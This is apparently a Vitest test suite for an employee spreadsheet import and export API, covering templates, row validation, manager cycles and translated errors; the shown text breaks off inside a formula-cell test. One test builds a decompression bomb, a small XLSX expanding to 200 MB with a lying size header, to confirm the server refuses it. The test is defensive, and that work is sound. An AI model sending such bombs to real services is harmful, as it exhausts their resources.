import { randomBytes } from 'node:crypto';
import { asc, eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import yauzl from 'yauzl';
import { accounts, departments, employees, positions } from '../../src/db/schema.ts';
import { call, createTestApp, type TestApp } from '../helpers/app.ts';
import { addDepartment, addEmployee, addPosition, addProject, createAccount, signIn } from '../helpers/factories.ts';
import { expectCommonRefusals, refusedUpload, type ImportUnderTest } from '../helpers/import-refusals.ts';
import { csv, deflateStream, readCsv, sheetXml, xlsx, XLSX_PARTS, zip, type Cell, type WorkbookCell } from '../helpers/spreadsheets.ts';
import { tenant, XLSX_TYPE, type Tenant } from '../helpers/tenant.ts';

/** The import's column contract (docs/product.md §6.3), written out here on purpose: a change must break this test. */
const COLUMNS: readonly string[] = Object.freeze([
  'employee_number',
  'first_name',
  'last_name',
  'email',
  'username',
  'password',
  'role',
  'department',
  'sub_department',
  'position',
  'report_to',
]);
const IMPORT = '/api/wizard/import-users-from-csv/';
const EXPORT = '/api/account/export-employees/';

/** The first sheet of an XLSX as rows of raw cell values (index 0 = column A), with the cells' types. */
async function readXlsx(bytes: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
  const sheet = workbook.worksheets[0]!;
  const rows: unknown[][] = [];
  const types = new Set<ExcelJS.ValueType>();
  sheet.eachRow({ includeEmpty: false }, (row) => {
    const cells: unknown[] = [];
    for (let c = 1; c <= COLUMNS.length; c += 1) {
      const cell = row.getCell(c);
      types.add(cell.type);
      cells.push(cell.value ?? '');
    }
    rows.push(cells);
  });
  return { rows, types, sheetName: sheet.name };
}

describe('employee import and export (docs/product.md §6.3)', () => {
  let t: TestApp;
  let acme: Tenant;
  let serial = 0;
  /** A tag unique to this run, so that usernames and emails (unique in the whole deployment) never collide. */
  const run = randomBytes(3).toString('hex');

  beforeAll(async () => {
    t = await createTestApp({ RATE_LIMIT_PER_MINUTE: '0' });
    acme = await tenant(t, { company: 'Acme' });
  });
  afterAll(() => t.close());

  /** A fresh project with departments, positions and one existing manager (M-1 Murad Huseynov). */
  async function freshProject() {
    serial += 1;
    const { id, scope: c } = await acme.addProject();
    const engineering = await addDepartment(t.deps, c, 'Engineering');
    const backend = await addDepartment(t.deps, c, 'Backend', engineering.id);
    const sales = await addDepartment(t.deps, c, 'Sales');
    const head = await addPosition(t.deps, c, engineering.id, 'Head of Engineering');
    const engineer = await addPosition(t.deps, c, backend.id, 'Engineer', head.id);
    // The same position name in another department: matching must stay inside the row's department.
    const salesEngineer = await addPosition(t.deps, c, sales.id, 'Engineer');
    const rep = await addPosition(t.deps, c, sales.id, 'Sales Rep');
    const murad = await addEmployee(t.deps, c, { number: 'M-1', firstName: 'Murad', lastName: 'Huseynov', departmentId: engineering.id, positionId: head.id });
    return { id, c, engineering, backend, sales, head, engineer, salesEngineer, rep, murad };
  }

  /** Identities unique to the current project (usernames and emails are unique in the whole deployment). */
  const person = (id: string) => ({ email: `${id}-${run}-${serial}@example.com`, username: `${id}_${run}_${serial}` });

  /** Three new employees: E-1 reports to E-2 (defined later in the file), E-2 to M-1 by number, E-3 to Murad by name. */
  function goodRows(): Cell[][] {
    const a = person('aysel');
    const n = person('nigar');
    const r = person('rashad');
    return [
      [...COLUMNS],
      ['E-1', 'Aysel', 'Mammadova', a.email, a.username, 'Secret-pass-1', '', 'Engineering', 'Backend', 'Engineer', 'E-2'],
      ['E-3', 'Rashad', 'Aliyev', r.email, r.username, '', 'user', 'Sales', '', 'Sales Rep', 'Murad Huseynov'],
      ['E-2', 'Nigar', 'Karimova', n.email, n.username, 'Secret-pass-2', 'admin', 'Engineering', '', 'Head of Engineering', 'M-1'],
    ];
  }

  /** Everything an import could write, to prove that a refused file wrote nothing. */
  async function snapshot(projectId: number) {
    const rows = await t.deps.db
      .select({
        id: employees.id,
        number: employees.employeeNumber,
        first: employees.firstName,
        last: employees.lastName,
        department: employees.departmentId,
        sub: employees.subDepartmentId,
        position: employees.positionId,
        reportTo: employees.reportToId,
        status: employees.status,
        username: accounts.username,
        email: accounts.email,
        role: accounts.role,
        hash: accounts.passwordHash,
        version: accounts.tokenVersion,
      })
      .from(employees)
      .innerJoin(accounts, eq(accounts.id, employees.accountId))
      .where(eq(employees.projectId, projectId))
      .orderBy(asc(employees.id));
    const companyAccounts = await t.deps.db.select({ id: accounts.id }).from(accounts).where(eq(accounts.companyId, acme.companyId));
    const depts = await t.deps.db.select({ id: departments.id, name: departments.name }).from(departments).where(eq(departments.projectId, projectId));
    const pos = await t.deps.db.select({ id: positions.id, name: positions.name }).from(positions).where(eq(positions.projectId, projectId));
    return { rows, accounts: companyAccounts.length, depts, pos };
  }

  async function listEmployees(projectId: number, as = acme.token) {
    const res = await acme.as(as, projectId).get('/api/wizard/employees/?status=all&page_size=200&ordering=employee_number');
    expect(res.statusCode).toBe(200);
    return res.json().results as Array<{
      employee_number: string;
      first_name: string;
      last_name: string;
      role: string;
      department: { id: number; name: string } | null;
      sub_department: { id: number; name: string } | null;
      position: { id: number; name: string } | null;
      report_to: { id: number; full_name: string } | null;
      id: number;
    }>;
  }

  type Options = { lang?: string; as?: string };
  const importInto = (projectId: number, who = acme.token): ImportUnderTest => ({
    caller: acme.as(who, projectId),
    companyId: acme.companyId,
    url: IMPORT,
    columns: COLUMNS,
    stem: 'people',
    snapshot: () => snapshot(projectId),
  });
  const send = (projectId: number, name: string, bytes: Buffer, options: Options = {}) =>
    importInto(projectId, options.as).caller.upload(IMPORT, name, bytes, options.lang);
  /** Sends a file that must be refused, and proves that nothing changed. */
  const refused = (projectId: number, name: string, bytes: Buffer, options: Options = {}) =>
    refusedUpload(importInto(projectId, options.as), name, bytes, options.lang);

  describe('templates', () => {
    /** The shipped example row (ADR 19): the import skips it while it is unchanged. */
    const EXAMPLE = ['EXAMPLE-1', 'Example', 'User', 'example.user@example.com', 'example.user', '', 'user', 'Engineering / Backend', '', 'Engineer', ''];

    it('GET ?format=csv is a UTF-8 CSV (with BOM): the columns in order and the example row', async () => {
      const res = await acme.call.get(`${IMPORT}?format=csv`);
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toMatch(/^text\/csv/);
      expect(res.headers['content-disposition']).toBe('attachment; filename="employees-template.csv"');
      expect(readCsv(res.rawPayload)).toEqual([COLUMNS, EXAMPLE]);
    });

    it('GET ?format=xlsx (and no format) is an XLSX: the columns and the example row, then a sheet explaining each column', async () => {
      for (const url of [`${IMPORT}?format=xlsx`, IMPORT]) {
        const res = await acme.call.get(url);
        expect(res.statusCode).toBe(200);
        expect(res.headers['content-type']).toBe(XLSX_TYPE);
        expect(res.headers['content-disposition']).toBe('attachment; filename="employees-template.xlsx"');
        const { rows } = await readXlsx(res.rawPayload);
        expect(rows).toEqual([COLUMNS, EXAMPLE]);
      }
      const bad = await acme.call.get(`${IMPORT}?format=pdf`);
      expect(bad.statusCode).toBe(400);
      expect(bad.json()).toEqual({ format: ['Select a valid choice.'] });
    });

    it('the second sheet lists roles, the project’s departments as paths and its positions with their department, in the caller’s language', async () => {
      const p = await freshProject();
      const platform = await addDepartment(t.deps, p.c, 'Platform', p.backend.id);
      await addPosition(t.deps, p.c, platform.id, 'Platform Engineer');
      const notes = async (lang: string) => {
        const res = await acme.inProject(p.id).get(`${IMPORT}?format=xlsx`, lang);
        const workbook = new ExcelJS.Workbook();
        await workbook.xlsx.load(res.rawPayload as unknown as ExcelJS.Buffer);
        expect(workbook.worksheets).toHaveLength(2);
        const sheet = workbook.worksheets[1]!;
        const rows: string[][] = [];
        sheet.eachRow((row) => rows.push([1, 2, 3].map((c) => String(row.getCell(c).value ?? ''))));
        return { name: sheet.name, rows };
      };
      const en = await notes('en');
      expect(en.name).toBe('Columns');
      expect(en.rows[0]).toEqual(['Column', 'What it holds', 'Allowed values']);
      expect(en.rows.slice(1, 12).map((r) => r[0])).toEqual(COLUMNS);
      expect(en.rows.find((r) => r[0] === 'role')![2]).toBe('user, admin, or blank');
      const paths = en.rows.map((r) => r[1]);
      expect(paths).toEqual(expect.arrayContaining(['Engineering', 'Engineering / Backend', 'Engineering / Backend / Platform', 'Sales']));
      expect(en.rows).toContainEqual(['', 'Platform Engineer', 'Engineering / Backend / Platform']);
      expect(en.rows).toContainEqual(['', 'Sales Rep', 'Sales']);
      expect(en.rows.some((r) => (r[0] ?? '').includes('example.user'))).toBe(true);
      const ru = await notes('ru');
      expect(ru.name).toBe('Столбцы');
      expect(ru.rows[0]).toEqual(['Столбец', 'Что указывается', 'Допустимые значения']);
    });

    it('the downloaded templates import as "no rows" rather than as a column error', async () => {
      const p = await freshProject();
      for (const format of ['csv', 'xlsx'] as const) {
        const template = (await acme.inProject(p.id).get(`${IMPORT}?format=${format}`)).rawPayload;
        const res = await refused(p.id, `template.${format}`, template);
        expect(res.statusCode).toBe(422);
        expect(res.json().errors).toEqual([{ row: 2, column: '', message: 'The file has no rows to import.' }]);
      }
    });
  });

  describe('a good file', () => {
    it('CSV: creates employees with accounts, matching departments, positions and managers by name and number', async () => {
      const p = await freshProject();
      const before = await snapshot(p.id);
      const res = await send(p.id, 'people.csv', csv(goodRows()));
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json()).toEqual({ created: 3, updated: 0 });

      const list = await listEmployees(p.id);
      const byNumber = Object.fromEntries(list.map((e) => [e.employee_number, e]));
      expect(Object.keys(byNumber).sort()).toEqual(['E-1', 'E-2', 'E-3', 'M-1']);
      expect(byNumber['E-1']).toMatchObject({
        first_name: 'Aysel',
        last_name: 'Mammadova',
        role: 'user',
        department: { id: p.engineering.id, name: 'Engineering' },
        sub_department: { id: p.backend.id, name: 'Backend' },
        // "Engineer" of Backend, not the one of Sales
        position: { id: p.engineer.id, name: 'Engineer' },
        // a manager defined later in the same file
        report_to: { id: byNumber['E-2']!.id, full_name: 'Nigar Karimova' },
      });
      expect(byNumber['E-2']).toMatchObject({
        role: 'admin',
        department: { id: p.engineering.id },
        sub_department: null,
        position: { id: p.head.id },
        report_to: { id: p.murad.id, full_name: 'Murad Huseynov' }, // by employee number
      });
      expect(byNumber['E-3']).toMatchObject({
        department: { id: p.sales.id },
        position: { id: p.rep.id },
        report_to: { id: p.murad.id }, // by unique full name
      });
      const after = await snapshot(p.id);
      expect(after.accounts).toBe(before.accounts + 3);
      expect(after.depts).toEqual(before.depts); // names are matched, never created
      expect(after.pos).toEqual(before.pos);

      // A password in the file is the account's password; without one the account cannot sign in yet.
      await signIn(t, person('aysel').username, 'Secret-pass-1');
      const noPassword = await call(t.app, 'POST', '/api/token/', { body: { username: person('rashad').username, password: '' } });
      expect(noPassword.statusCode).toBe(400);
      expect(after.rows.find((r) => r.number === 'E-3')!.hash).not.toMatch(/^\$argon2/);
    });

    it('XLSX: numeric cells, blank rows and case-insensitive names import the same way', async () => {
      const p = await freshProject();
      const a = person('xa');
      const b = person('xb');
      const rows: Cell[][] = [
        COLUMNS.map((c) => c.toUpperCase()),
        [1001, 'Leyla', 'Aliyeva', a.email, a.username, '', '', 'engineering', 'BACKEND', 'engineer', 1002],
        [],
        [1002, 'Kamran', 'Quliyev', b.email, b.username, '', 'user', 'Engineering', '', 'Head of Engineering', 'murad huseynov'],
      ];
      const res = await send(p.id, 'people.xlsx', await xlsx(rows));
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json()).toEqual({ created: 2, updated: 0 });
      const list = await listEmployees(p.id);
      const leyla = list.find((e) => e.employee_number === '1001')!;
      const kamran = list.find((e) => e.employee_number === '1002')!;
      expect(leyla).toMatchObject({ sub_department: { id: p.backend.id }, position: { id: p.engineer.id }, report_to: { id: kamran.id } });
      expect(kamran).toMatchObject({ position: { id: p.head.id }, report_to: { id: p.murad.id } });
    });

    it('a semicolon-separated CSV (what Excel writes in az and ru locales) imports the same way', async () => {
      const p = await freshProject();
      const text = csv(goodRows()).toString('utf8').replace(/,/g, ';');
      const res = await send(p.id, 'people.csv', Buffer.from(`\uFEFF${text}`));
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json()).toEqual({ created: 3, updated: 0 });
      const list = await listEmployees(p.id);
      expect(list.find((e) => e.employee_number === 'E-1')).toMatchObject({ position: { id: p.engineer.id }, report_to: { full_name: 'Nigar Karimova' } });
    });

    it('re-importing the same file updates instead of duplicating, and applies changed names', async () => {
      const p = await freshProject();
      const rows = goodRows();
      expect((await send(p.id, 'people.csv', csv(rows))).json()).toEqual({ created: 3, updated: 0 });
      const first = await snapshot(p.id);

      const again = await send(p.id, 'people.csv', csv(rows));
      expect(again.statusCode).toBe(200);
      expect(again.json()).toEqual({ created: 0, updated: 3 });
      const second = await snapshot(p.id);
      expect(second.accounts).toBe(first.accounts);
      expect(second.rows.map((r) => [r.id, r.number, r.first, r.last, r.department, r.sub, r.position, r.reportTo])).toEqual(
        first.rows.map((r) => [r.id, r.number, r.first, r.last, r.department, r.sub, r.position, r.reportTo]),
      );

      // Aysel also works in another project: her name is one name everywhere.
      const elsewhere = await addProject(t.deps, acme.companyId, `Elsewhere ${serial}`);
      const aysel = first.rows.find((r) => r.number === 'E-1')!;
      const [account] = await t.deps.db.select({ id: accounts.id }).from(accounts).where(eq(accounts.username, aysel.username));
      const [other] = await t.deps.db
        .insert(employees)
        .values({
          companyId: acme.companyId,
          projectId: elsewhere.id,
          accountId: account!.id,
          employeeNumber: 'X-9',
          firstName: 'Aysel',
          lastName: 'Mammadova',
        })
        .returning();

      // Changed names and placement, same numbers: the same employees change.
      rows[1]![2] = 'Mammadova-Aliyeva';
      rows[3]![8] = 'Backend';
      rows[3]![9] = 'Engineer';
      const changed = await send(p.id, 'people.csv', csv(rows));
      expect(changed.json()).toEqual({ created: 0, updated: 3 });
      const list = await listEmployees(p.id);
      expect(list).toHaveLength(4);
      expect(list.find((e) => e.employee_number === 'E-1')).toMatchObject({ last_name: 'Mammadova-Aliyeva' });
      expect(list.find((e) => e.employee_number === 'E-2')).toMatchObject({ sub_department: { id: p.backend.id }, position: { id: p.engineer.id } });
      const [otherAfter] = await t.deps.db.select().from(employees).where(eq(employees.id, other!.id));
      expect(otherAfter).toMatchObject({ firstName: 'Aysel', lastName: 'Mammadova-Aliyeva', employeeNumber: 'X-9', projectId: elsewhere.id });
      const third = await snapshot(p.id);
      expect(third.rows.map((r) => r.id)).toEqual(first.rows.map((r) => r.id));
      expect(third.accounts).toBe(first.accounts);
    });
  });

  describe('a bad file is refused whole, with every error, and writes nothing', () => {
    it('wrong or missing columns, no rows, no file, files that are not spreadsheets and files over 10 MB', async () => {
      const p = await freshProject();
      await expectCommonRefusals(importInto(p.id));
    });

    it('unknown department, sub-department, position and manager names, each at its row and column, once at the cause', async () => {
      const p = await freshProject();
      const rows = goodRows();
      rows[1]![7] = 'Marketing'; // unknown department: one error there, none for the sub-department or position that follow from it
      rows[2]![9] = 'Astronaut';
      rows[3]![8] = 'Sales'; // a top-level department is not below Engineering; the position is then not checked either
      rows[3]![10] = 'Nobody Known';
      const res = await refused(p.id, 'people.csv', csv(rows));
      expect(res.statusCode).toBe(422);
      expect(res.json().errors).toEqual([
        { row: 2, column: 'department', message: 'There is no "Marketing" here in this project.' },
        { row: 3, column: 'position', message: 'There is no "Astronaut" here in this project.' },
        { row: 4, column: 'sub_department', message: 'There is no "Sales" here in this project.' },
        { row: 4, column: 'report_to', message: 'There is no "Nobody Known" here in this project.' },
      ]);
    });

    it('a department at any depth, by path (with or without blanks around "/") or by a name no other department has; an ambiguous name lists the paths', async () => {
      const p = await freshProject();
      const platform = await addDepartment(t.deps, p.c, 'Platform', p.backend.id);
      const platformEngineer = await addPosition(t.deps, p.c, platform.id, 'Platform Engineer');
      await addDepartment(t.deps, p.c, 'Backend', p.sales.id); // a second "Backend"
      const a = person('deep-a');
      const b = person('deep-b');
      const c = person('deep-c');
      const d = person('deep-d');
      const rows: Cell[][] = [
        [...COLUMNS],
        ['D-1', 'Aysel', 'Deep', a.email, a.username, '', '', 'Engineering / Backend / Platform', '', 'Platform Engineer', ''],
        ['D-2', 'Banu', 'Deep', b.email, b.username, '', '', 'engineering/backend/platform', '', 'Platform Engineer', ''],
        ['D-3', 'Cahid', 'Deep', c.email, c.username, '', '', 'Platform', '', 'Platform Engineer', ''],
        ['D-4', 'Dilarə', 'Deep', d.email, d.username, '', '', 'Engineering', 'Backend / Platform', 'Platform Engineer', ''],
      ];
      const res = await send(p.id, 'people.csv', csv(rows));
      expect(res.statusCode, res.body).toBe(200);
      const placed = (await listEmployees(p.id)).filter((e) => e.employee_number.startsWith('D-'));
      expect(placed).toHaveLength(4);
      for (const e of placed) {
        // Stored as the form stores it: the parent department and the department itself.
        expect(e.department).toEqual({ id: p.backend.id, name: 'Backend' });
        expect(e.sub_department).toEqual({ id: platform.id, name: 'Platform' });
        expect(e.position).toEqual({ id: platformEngineer.id, name: 'Platform Engineer' });
      }
      const e = person('deep-e');
      const ambiguous = await refused(p.id, 'people.csv', csv([COLUMNS, ['D-5', 'Elvin', 'Deep', e.email, e.username, '', '', 'Backend', '', 'Engineer', '']]));
      expect(ambiguous.json().errors).toEqual([
        {
          row: 2,
          column: 'department',
          message: 'More than one department is called "Backend": write its path, e.g. "Engineering / Backend", "Sales / Backend".',
        },
      ]);
    });

    it('a blank report_to takes the only holder of the position the employee’s position reports to (project or file); two holders leave it blank', async () => {
      const p = await freshProject();
      const staff = await addPosition(t.deps, p.c, p.backend.id, 'Staff Engineer', p.engineer.id);
      const a = person('chart-a');
      const b = person('chart-b');
      const c = person('chart-c');
      const rows: Cell[][] = [
        [...COLUMNS],
        // Engineer reports to Head of Engineering, held by Murad alone.
        ['H-1', 'Aysel', 'Chart', a.email, a.username, '', '', 'Engineering / Backend', '', 'Engineer', ''],
        // Staff Engineer reports to Engineer: held by H-1 of this file alone.
        ['H-2', 'Banu', 'Chart', b.email, b.username, '', '', 'Engineering / Backend', '', 'Staff Engineer', ''],
        // A given report_to wins.
        ['H-3', 'Cahid', 'Chart', c.email, c.username, '', '', 'Engineering / Backend', '', 'Staff Engineer', 'M-1'],
      ];
      expect((await send(p.id, 'people.csv', csv(rows))).statusCode).toBe(200);
      const byNumber = Object.fromEntries((await listEmployees(p.id)).map((e) => [e.employee_number, e]));
      expect(byNumber['H-1']!.report_to?.id).toBe(p.murad.id);
      expect(byNumber['H-2']!.report_to?.id).toBe(byNumber['H-1']!.id);
      expect(byNumber['H-3']!.report_to?.id).toBe(p.murad.id);
      expect(staff.id).toBeGreaterThan(0);
      // A second Engineer: nobody is the one holder any more, so a new Staff Engineer gets no manager.
      const d = person('chart-d');
      const e = person('chart-e');
      const more: Cell[][] = [
        [...COLUMNS],
        ['H-4', 'Dilarə', 'Chart', d.email, d.username, '', '', 'Engineering / Backend', '', 'Engineer', ''],
        ['H-5', 'Elvin', 'Chart', e.email, e.username, '', '', 'Engineering / Backend', '', 'Staff Engineer', ''],
      ];
      expect((await send(p.id, 'people.csv', csv(more))).statusCode).toBe(200);
      const after = Object.fromEntries((await listEmployees(p.id)).map((x) => [x.employee_number, x]));
      expect(after['H-5']!.report_to).toBeNull();
    });

    it('the template’s example row, left as shipped, is skipped; changed, it is a person', async () => {
      const p = await freshProject();
      const template = readCsv((await acme.inProject(p.id).get(`${IMPORT}?format=csv`)).rawPayload);
      const withPerson = [...template, goodRows()[3]!];
      const res = await send(p.id, 'people.csv', csv(withPerson));
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json()).toEqual({ created: 1, updated: 0 });
      expect((await listEmployees(p.id)).map((e) => e.employee_number)).not.toContain('EXAMPLE-1');
    });

    it('a manager name that several employees share must be given by number', async () => {
      const p = await freshProject();
      await addEmployee(t.deps, p.c, { number: 'M-2', firstName: 'Murad', lastName: 'Huseynov' });
      const rows = goodRows();
      rows[2]![10] = 'murad huseynov'; // two of them now
      const res = await refused(p.id, 'people.csv', csv(rows));
      expect(res.statusCode).toBe(422);
      expect(res.json().errors).toEqual([
        { row: 3, column: 'report_to', message: 'More than one employee is called "murad huseynov": use the employee number.' },
      ]);
      rows[2]![10] = 'M-2';
      expect((await send(p.id, 'people.csv', csv(rows))).json()).toEqual({ created: 3, updated: 0 });
    });

    it('a position of another department says which department it belongs to', async () => {
      const p = await freshProject();
      const rows = goodRows().slice(0, 2);
      rows[1]![8] = '';
      rows[1]![9] = 'Sales Rep'; // exists, but in Sales, not in Engineering
      rows[1]![10] = '';
      const res = await refused(p.id, 'people.csv', csv(rows));
      expect(res.json().errors).toEqual([{ row: 2, column: 'position', message: 'The position "Sales Rep" belongs to "Sales".' }]);
      const ru = await refused(p.id, 'people.csv', csv(rows), { lang: 'ru' });
      expect(ru.json().errors).toEqual([{ row: 2, column: 'position', message: 'Должность «Sales Rep» относится к отделу "Sales".' }]);
    });

    it('duplicate employee numbers (and usernames, emails) in the file', async () => {
      const p = await freshProject();
      const rows = goodRows();
      rows[3]![0] = 'e-1'; // numbers compare without case
      rows[3]![10] = '';
      rows[1]![10] = '';
      rows[2]![4] = rows[1]![4]!;
      const res = await refused(p.id, 'people.csv', csv(rows));
      expect(res.statusCode).toBe(422);
      expect(res.json().errors).toEqual([
        { row: 3, column: 'username', message: 'This value already appears on row 2.' },
        { row: 4, column: 'employee_number', message: 'This value already appears on row 2.' },
      ]);
    });

    it('every error in one pass: duplicates on rows with other errors, with the database’s taken names and choices listed', async () => {
      const p = await freshProject();
      const rows = goodRows();
      rows[1]![3] = 'not-an-email'; // row 2 has a bad email …
      rows[2]![4] = rows[1]![4]!; // … and row 3 repeats its username
      rows[2]![6] = 'boss';
      rows[3]![3] = p.murad.account.email; // taken in the deployment
      const res = await refused(p.id, 'people.csv', csv(rows));
      expect(res.json().errors).toEqual([
        { row: 2, column: 'email', message: 'A valid email is required' },
        { row: 3, column: 'role', message: 'Select a valid choice: user, admin.' },
        { row: 3, column: 'username', message: 'This value already appears on row 2.' },
        { row: 4, column: 'email', message: 'A user with that email already exists.' },
      ]);
      const az = await refused(p.id, 'people.csv', csv(rows), { lang: 'az' });
      expect(az.json().errors[1]).toEqual({ row: 3, column: 'role', message: 'Düzgün seçim edin: user, admin.' });
    });

    it('a manager cycle in the file (A→B→A), and an employee reporting to themselves', async () => {
      const p = await freshProject();
      const a = person('cyc-a');
      const b = person('cyc-b');
      const c = person('cyc-c');
      const rows = [
        COLUMNS,
        ['C-1', 'Anar', 'Babayev', a.email, a.username, '', '', '', '', '', 'C-2'],
        ['C-2', 'Banu', 'Cavadova', b.email, b.username, '', '', '', '', '', 'Anar Babayev'],
        ['C-3', 'Cahid', 'Daşdəmirov', c.email, c.username, '', '', '', '', '', 'C-3'],
      ];
      const res = await refused(p.id, 'people.csv', csv(rows));
      expect(res.statusCode).toBe(422);
      const cycle = 'An employee cannot report to themselves or to anyone below them.';
      expect(res.json().errors).toEqual([
        { row: 2, column: 'report_to', message: cycle },
        { row: 3, column: 'report_to', message: cycle },
        { row: 4, column: 'report_to', message: cycle },
      ]);
    });

    it('a cycle through an existing employee: M-1 re-imported to report to someone who reports to M-1', async () => {
      const p = await freshProject();
      const x = person('cyc-x');
      const m = person('cyc-m');
      const rows = [
        COLUMNS,
        ['X-1', 'Xəyal', 'Əliyev', x.email, x.username, '', '', 'Engineering', '', '', 'M-1'],
        ['M-1', 'Murad', 'Huseynov', m.email, m.username, '', '', 'Engineering', '', '', 'X-1'],
      ];
      const res = await refused(p.id, 'people.csv', csv(rows));
      expect(res.json().errors.map((e: { row: number; column: string }) => [e.row, e.column])).toEqual([
        [2, 'report_to'],
        [3, 'report_to'],
      ]);
    });

    it('invalid fields, usernames and emails already taken, and row numbers that count blank rows', async () => {
      const p = await freshProject();
      const rows = goodRows();
      rows[1]![3] = 'not-an-email';
      rows[1]![6] = 'boss';
      rows[2]![4] = acme.owner.username.toUpperCase(); // taken in the deployment (any case)
      rows.splice(2, 0, [], ['', '', '', '', '', '', '', '', '', '', '']); // two blank rows: rows 3 and 4
      const res = await refused(p.id, 'people.csv', csv(rows));
      expect(res.statusCode).toBe(422);
      expect(res.json().errors).toEqual([
        { row: 2, column: 'email', message: 'A valid email is required' },
        { row: 2, column: 'role', message: 'Select a valid choice: user, admin.' },
        { row: 5, column: 'username', message: 'A user with that username already exists.' },
      ]);
    });

    it('a zip bomb is refused from its central directory, without being inflated', async () => {
      const p = await freshProject();
      const a = person('bomb');
      const sheet = sheetXml([COLUMNS, ['B-1', 'Bomb', 'Row', a.email, a.username, '', '', '', '', '', '']]);
      // 200 MB of spaces inside a valid worksheet: unguarded, this file would import one employee.
      const huge = await deflateStream(sheet.open, Buffer.alloc(1024 * 1024, 0x20), 200, sheet.body + sheet.close);
      expect(huge.bytes.length).toBeLessThan(400 * 1024);
      const control = zip([...XLSX_PARTS, { name: 'xl/worksheets/sheet1.xml', data: Buffer.from(sheet.open + sheet.body + sheet.close) }]);
      const bomb = zip([...XLSX_PARTS, { name: 'xl/worksheets/sheet1.xml', deflated: huge }]);
      // The same entry with a central directory that claims 200 kB: the sizes must be checked while reading.
      const liar = zip([...XLSX_PARTS, { name: 'xl/worksheets/sheet1.xml', deflated: huge, claimedSize: 200_000 }]);
      // The app runs in this process: watch whether any entry of the bomb is ever opened.
      const open = vi.spyOn(yauzl.ZipFile.prototype, 'openReadStream');
      try {
        const res = await refused(p.id, 'people.xlsx', bomb);
        expect(res.statusCode).toBe(400);
        expect(res.json()).toEqual({ file: ['The file is too large once unpacked.'] });
        expect(open).not.toHaveBeenCalled();
        const ru = await refused(p.id, 'people.xlsx', bomb, { lang: 'ru' });
        expect(ru.json()).toEqual({ file: ['Файл слишком велик в распакованном виде.'] });
      } finally {
        open.mockRestore();
      }
      const lying = await refused(p.id, 'people.xlsx', liar);
      expect(lying.statusCode).toBe(400);
      expect(lying.json()).toEqual({ file: ['The file is too large once unpacked.'] });
      // The hand-made workbook itself is a valid file: the refusal above is about the bomb, not the format.
      const ok = await send(p.id, 'people.xlsx', control);
      expect(ok.statusCode, ok.body).toBe(200);
      expect(ok.json()).toEqual({ created: 1, updated: 0 });
    });

    it('a repetitive but valid file imports; a 5 MB cell is refused on its row and column, not as "not a spreadsheet"', async () => {
      const p = await freshProject();
      const a = person('squeezed');
      const b = person('long');
      // 2 MB of blanks between the elements: compressed more than 200 times, and a valid workbook.
      const padded = sheetXml([COLUMNS, ['P-1', 'Padded', 'Row', a.email, a.username, '', '', '', '', '', '']]);
      const squeezed = await deflateStream(padded.open, Buffer.alloc(1024 * 1024, 0x20), 2, padded.body + padded.close);
      expect(squeezed.size / squeezed.bytes.length).toBeGreaterThan(200);
      const ok = await send(p.id, 'people.xlsx', zip([...XLSX_PARTS, { name: 'xl/worksheets/sheet1.xml', deflated: squeezed }]));
      expect(ok.statusCode, ok.body).toBe(200);
      expect(ok.json()).toEqual({ created: 1, updated: 0 });

      // A 5 MB cell of one repeated letter, in a valid row.
      const sheet = sheetXml([COLUMNS, ['L-1', 'REPLACE', 'Row', b.email, b.username, '', '', '', '', '', '']]);
      const [before, after] = sheet.body.split('REPLACE') as [string, string];
      const cell = await deflateStream(sheet.open + before, Buffer.alloc(1024 * 1024, 0x61), 5, after + sheet.close);
      const res = await refused(p.id, 'people.xlsx', zip([...XLSX_PARTS, { name: 'xl/worksheets/sheet1.xml', deflated: cell }]));
      expect(res.statusCode).toBe(422);
      expect(res.json().errors).toEqual([{ row: 2, column: 'first_name', message: 'This cell holds more than 32767 characters.' }]);
    });

    it('translates the errors per Accept-Language (az, ru)', async () => {
      const p = await freshProject();
      const rows = goodRows();
      rows[2]![7] = 'Marketinq';
      rows[2]![9] = '';
      const az = await refused(p.id, 'people.csv', csv(rows), { lang: 'az' });
      expect(az.statusCode).toBe(422);
      expect(az.json().errors).toEqual([{ row: 3, column: 'department', message: 'Bu layihədə "Marketinq" yoxdur.' }]);
      expect(az.json().detail).not.toBe('The file has errors: nothing was imported.');

      const swapped = goodRows();
      swapped[0]![0] = 'number';
      const ru = await refused(p.id, 'people.csv', csv(swapped), { lang: 'ru-RU,ru;q=0.9' });
      expect(ru.json().errors[0]).toEqual({ row: 1, column: 'employee_number', message: expect.stringContaining('employee_number') });
      expect(ru.json().errors[0].message).not.toBe('Expected the column "employee_number" here.');
      expect(ru.json().errors[0].message).toMatch(/[а-яА-Я]/);

      const notSheet = await refused(p.id, 'people.xlsx', Buffer.from([0x25, 0x50, 0x44, 0x46, 0x00, 0xff]), { lang: 'ru' });
      expect(notSheet.json()).toEqual({ file: ['Загрузите файл .xlsx или .csv.'] });
    });
  });

  describe('what a workbook holds besides plain values', () => {
    it('formula cells import as their cached values (also shared formulas); cells after the template’s columns are ignored', async () => {
      const p = await freshProject();
      const a = person('formula-a');
      const b = person('formula-b');
      const formula = (text: string, result: string | number): WorkbookCell => ({ formula: text, result }) as ExcelJS.CellFormulaValue;
      const rows: WorkbookCell[][] = [
        [...COLUMNS, 'notes'],
        [
          formula('1000+1', 1001),
          formula('PROPER("leyla")', 'Leyla'),
          { formula: 'PROPER("aliyeva")', result: 'Aliyeva', shareType: 'shared', ref: 'C2:C3' } as ExcelJS.CellFormulaValue,
          formula(`"${a.email}"`, a.email),
          a.username,
          '',
          '',
          'Engineering',
          '',
          '',
          formula('1000+2', 1002),
          // Not a column of the template: neither read nor refused.
          { formula: 'NOW()' } as ExcelJS.CellFormulaValue,
        ],
        [
          1002,
          'Kamran',
          { sharedFormula: 'C2', result: 'Quliyev' } as ExcelJS.CellSharedFormulaValue,
          b.email,
          b.username,
          '',
          '',
          'Engineering',
          '',
          '',
          '',
          'x'.repeat(40_000),
        ],
      ];
      const res = await send(p.id, 'people.xlsx', await xlsx(rows));
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json()).toEqual({ created: 2, updated: 0 });
